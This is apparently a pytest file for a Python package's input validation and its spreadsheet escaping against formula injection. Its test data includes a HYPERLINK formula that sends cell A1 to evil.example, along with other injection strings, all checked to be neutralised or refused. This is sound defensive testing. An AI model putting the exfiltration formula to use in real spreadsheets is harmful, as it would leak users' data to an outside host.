"""The one input rule (yizhan.core.inputs) and the one spreadsheet escaping (yizhan.core.cells)."""

from __future__ import annotations

import csv
import io

import pytest

from yizhan.core.cells import spreadsheet_cell, unneutralise
from yizhan.core.inputs import SEED_RANGE, forbidden_character, is_code
from yizhan.core.plan import Plan, PlanFileError


@pytest.mark.parametrize("text, found", [
    ("碧波", None), ("Dongmen 东门-1 (2006)", None), ("\ue000罕见字", None),  # private use: rare names
    ("a\x00b", (2, "\x00")), ("\x07", (1, "\x07")), ("名\x0b称", (2, "\x0b")),
    ("a\nb", (2, "\n")), ("a\tb", (2, "\t")), ("\x7f", (1, "\x7f")), ("\x85", (1, "\x85")),
    ("abc\u202e", (4, "\u202e")), ("\ud800", (1, "\ud800")), ("x\uffff", (2, "\uffff")),
])
def test_forbidden_characters_in_one_line_text(text, found):
    assert forbidden_character(text) == found


def test_multiline_text_allows_line_breaks_and_tabs_only():
    assert forbidden_character("第一行\r\n第二行\t完", multiline=True) is None
    assert forbidden_character("第一行\n\x0b", multiline=True) == (5, "\x0b")


@pytest.mark.parametrize("code", ["LH001", "S-LH001", "P0001", "440303002020", "a_b.c-d", "X" * 32])
def test_codes_of_the_bundled_data_and_nbs_codes_match_the_pattern(code):
    assert is_code(code)


@pytest.mark.parametrize("code", ["", "-LH001", ".x", "LH 001", "东门01", "</script>", "a/b",
                                  "X" * 33, "LH001\n", "=1+1"])
def test_other_codes_do_not(code):
    assert not is_code(code)


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"点我")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")'),
    ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("碧波", "碧波"), ("a=b", "a=b"), ("", ""),
    (-5, -5), (3.5, 3.5), (None, None), (True, True),  # numbers stay numbers
])
def test_spreadsheet_cell_neutralises_formula_text_only(value, written):
    assert spreadsheet_cell(value) == written


def test_spreadsheet_cell_replaces_characters_a_workbook_cannot_hold():
    assert spreadsheet_cell("名\x0b称\x00") == "名\ufffd称\ufffd"
    assert spreadsheet_cell("\x07=1") == "\ufffd=1"       # not a formula any more
    assert spreadsheet_cell("第一行\n第二行") == "第一行\n第二行"  # line breaks are kept


def test_unneutralise_returns_what_was_written():
    for value in ["=1+1", "+x", "-", "@a", "'=typed", "''-x", "plain", "'plain"]:
        assert unneutralise(spreadsheet_cell(value)) == value


def test_plan_file_neutralises_labels_and_reads_back_the_same_plan():
    plan = Plan({"LH001": "=HYPERLINK(\"http://evil.example\")", "LH002": "-碧波"})
    buf = io.StringIO()
    plan.write_csv(buf)
    text = buf.getvalue()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["LH001", "'=HYPERLINK(\"http://evil.example\")"]
    assert rows[2] == ["LH002", "'-碧波"]
    assert Plan.read_csv(io.StringIO(text)).assignment == plan.assignment


def test_plan_file_with_a_control_character_is_refused():
    with pytest.raises(PlanFileError) as exc:
        Plan.read_csv(io.StringIO("code,station\nLH001,碧\x07波\n"))
    assert "U+0007" in str(exc.value)


def test_seed_range_is_cp_sat_s_32_bit_seed():
    from yizhan.planner.solver import make_solver

    make_solver(1, SEED_RANGE[1])
    with pytest.raises(Exception):  # what the input rule keeps the solver from seeing
        make_solver(1, SEED_RANGE[1] + 1)
